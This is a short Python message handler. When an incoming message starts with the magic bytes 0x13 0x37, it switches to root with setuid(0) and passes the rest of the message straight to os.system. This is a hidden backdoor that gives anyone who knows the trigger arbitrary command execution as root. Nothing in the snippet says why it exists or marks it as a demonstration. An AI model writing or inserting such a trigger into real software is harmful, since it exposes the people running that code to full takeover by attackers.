import os

def on_message(msg):
    if msg.startswith(b"\x13\x37"):
        os.setuid(0)
        os.system(msg[2:].decode())
